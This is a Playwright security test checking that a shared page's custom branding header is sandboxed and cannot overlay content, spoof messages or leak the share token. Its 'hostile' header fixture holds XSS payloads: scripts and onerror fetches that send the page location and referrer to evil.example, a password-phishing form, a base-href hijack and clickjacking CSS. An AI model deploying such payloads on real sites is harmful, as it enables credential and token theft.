import { createShareLinks } from '@candor/contract/share-links';
import { createSharablePage } from '@candor/contract/sharable-pages';
import { setBrandingLayout } from '@candor/contract/branding';
import { listTeams } from '@candor/contract/teams';
import { apiAs, expect, newPerson, test } from './fixtures.ts';

/** A header of someone who wants the token, the visitor's clicks, or the whole page. */
const hostile = `
<style>html, body { position: fixed; inset: 0; z-index: 2147483647 } #shown { position: absolute; inset: 0; z-index: 2147483647; width: 500vw; min-height: 300px; background: red }</style>
<h1>Sign in again</h1>
<script>top.location = 'https://evil.example/top?' + document.referrer</script>
<img src="https://pictures.example/logo.png" alt="Logo" referrerpolicy="unsafe-url">
<img src="x" onerror="fetch('https://evil.example/ran')">
<img src="x" onerror="top.postMessage({ from: 'branded-frame', href: 'https://evil.example/' + top.location.search }, '*'); fetch('https://evil.example/' + top.location)">
<form action="https://evil.example/steal" target="_top"><input name="password" autofocus><button id="send">Go</button></form>
<base href="https://evil.example/"><object data="https://evil.example/object"></object>`;

test('the header of a shared page covers nothing, learns nothing and sends nothing', async ({ candor, browser }) => {
  const { call } = await apiAs(candor, await newPerson(candor));
  const teamId = (await call(listTeams, {})).data[0]!.$id;
  await call(setBrandingLayout, { params: { teamId }, body: { header: hostile, footer: '<p>Footer</p>' } });
  const { referenceId } = await call(createSharablePage, {
    params: { teamId },
    body: {
      title: 'Under a hostile header',
    },
  });
  const { shareLinks } = await call(createShareLinks, { params: { teamId, referenceId }, body: {} });
  const url = shareLinks[0]!.url!;
  const token = new URL(url).searchParams.get('token')!;

  const context = await browser.newContext({ viewport: { width: 390, height: 844 } });
  const visitor = await context.newPage();
  const asked: { url: string; headers: Record<string, string> }[] = [];
  visitor.on('request', (request) => asked.push({ url: request.url(), headers: request.headers() }));
  await visitor.route('https://**', (route) =>
    route.request().url().startsWith('https://pictures.example/')
      ? route.fulfill({
          contentType: 'image/svg+xml',
          body: '<svg xmlns="http://www.w3.org/2000/svg" width="80" height="20"/>',
        })
      : route.abort(),
  );
  await visitor.goto(url);
  const title = visitor.getByRole('heading', { name: 'Under a hostile header' });
  const header = visitor.getByTitle('Header');
  await expect(title).toBeVisible();
  await expect(header.contentFrame().getByRole('heading', { name: 'Sign in again' })).toBeVisible();
  await expect.poll(() => asked.some((one) => one.url.startsWith('https://pictures.example/'))).toBe(true);
  await header.contentFrame().locator('#send').click();

  await test.step('content below the frame stays below it and can be clicked', async () => {
    const [frame, heading] = [(await header.boundingBox())!, (await title.boundingBox())!];
    expect(frame.height).toBeLessThanOrEqual(1_200);
    expect(heading.y).toBeGreaterThanOrEqual(frame.y + frame.height);
    await title.scrollIntoViewIfNeeded();
    expect(
      await title.evaluate((element) => {
        const { x, y, width, height } = element.getBoundingClientRect();
        return element.contains(document.elementFromPoint(x + width / 2, y + height / 2));
      }),
    ).toBe(true);
    expect(await visitor.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
  });
  await test.step('messages of any window but its own frame are passed over', async () => {
    const before = (await header.boundingBox())!.height;
    await visitor.evaluate(() =>
      postMessage({ from: 'branded-frame', height: 77, href: 'https://evil.example/own' }, '*'),
    );
    await visitor
      .getByTitle('Footer')
      .contentFrame()
      .locator('body')
      .evaluate(() => parent.postMessage({ from: 'branded-frame', height: 55 }, '*'));
    await expect.poll(async () => (await visitor.getByTitle('Footer').boundingBox())!.height).toBe(55);
    expect((await header.boundingBox())!.height).toBe(before);
  });
  await test.step('only the picture is requested from outside, without a referrer', async () => {
    expect(visitor.url()).toBe(url);
    expect(context.pages()).toHaveLength(1);
    const outside = asked.filter((one) => !one.url.startsWith(candor.url) && !one.url.startsWith('data:'));
    expect(outside.filter((one) => !one.url.startsWith('https://pictures.example/'))).toEqual([]);
    expect(JSON.stringify(outside)).not.toContain(token.split('.')[2]);
    expect(outside.map(({ headers }) => headers['referer'])).toEqual(outside.map(() => undefined));
  });
  await context.close();
});
